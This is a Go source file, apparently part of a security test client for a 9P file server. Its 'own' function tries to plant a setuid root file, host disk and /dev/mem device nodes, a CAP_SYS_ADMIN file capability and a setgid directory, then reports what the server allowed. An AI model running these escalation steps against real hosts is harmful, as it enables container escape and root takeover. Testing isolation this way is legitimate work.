package client

import "fmt"

// own makes what would be worth most on the host, in the volume and in the rootfs: a
// program that is set-user-ID root's, one with capabilities, files and directories of
// root's and of others, and a node of the host's disk. It tells what the server did.
func own(s *session, _ target) error {
	p, err := s.place()
	if err != nil {
		return err
	}
	for place, dir := range map[string]uint32{"vol": p.vol, "rootfs": p.rootfs} {
		fid, err := s.make(dir, "setuid")
		s.say("%s: create: %v", place, err)
		if err == nil {
			_, err = s.call(twrite, fid, uint64(0), uint32(4), []byte("#!x\n"))
			s.say("%s: write: %v", place, err)
			for _, id := range []uint32{0, 1000, 65534, 100000, 165535, 165536} {
				_, err = s.call(tsetattr, fid, uint32(setUID|setGID), uint32(0), id, id, uint64(0), uint64(0), uint64(0), uint64(0), uint64(0))
				s.say("%s: chown to %d: %v", place, id, err)
				_, err = s.call(tsetattr, fid, uint32(setMode), uint32(0o6755), uint32(0), uint32(0), uint64(0), uint64(0), uint64(0), uint64(0), uint64(0))
				s.say("%s: chmod: %v", place, err)
			}
			_, err = s.call(tsetattr, fid, uint32(setUID|setGID), uint32(0), uint32(0), uint32(0), uint64(0), uint64(0), uint64(0), uint64(0), uint64(0))
			s.say("%s: chown to 0 in the end: %v", place, err)
			_, err = s.call(tsetattr, fid, uint32(setMode), uint32(0o6755), uint32(0), uint32(0), uint64(0), uint64(0), uint64(0), uint64(0), uint64(0))
			s.say("%s: chmod in the end: %v", place, err)
			s.clunk(fid)
		}
		for name, mode := range map[string]uint32{"disk": 0o60666, "mem": 0o20666} {
			major, minor := uint32(8), uint32(0)
			if name == "mem" {
				major, minor = 1, 1
			}
			_, err := s.call(tmknod, dir, name, mode, major, minor, uint32(0))
			s.say("%s: mknod %s: %v", place, name, err)
		}
		if fid, err := s.make(dir, "capable"); err == nil {
			s.clunk(fid)
			fid, err = s.walk(dir, "capable")
			if err != nil {
				return err
			}
			// VFS_CAP_REVISION_2 with CAP_SYS_ADMIN, effective.
			value := []byte{1, 0, 0, 2, 0, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
			if _, err = s.call(txattrcreate, fid, "security.capability", uint64(len(value)), uint32(0)); err == nil {
				if _, err = s.call(twrite, fid, uint64(0), uint32(len(value)), value); err == nil {
					_, err = s.call(tclunk, fid)
				}
			}
			s.say("%s: file capability: %v", place, err)
		}
		if _, err := s.call(tmkdir, dir, "directory", uint32(0o6777), uint32(0)); err != nil {
			s.say("%s: mkdir: %v", place, err)
		}
		// What is root's there already.
		for _, name := range []string{"roots", "shut"} {
			if fid, err := s.walk(dir, name); err == nil {
				s.reads(fid)
				s.say("%s: of %s: %v", place, name, s.changes(fid))
			}
		}
	}
	if s.leaked > 0 {
		return fmt.Errorf("root's file was read")
	}
	return nil
}
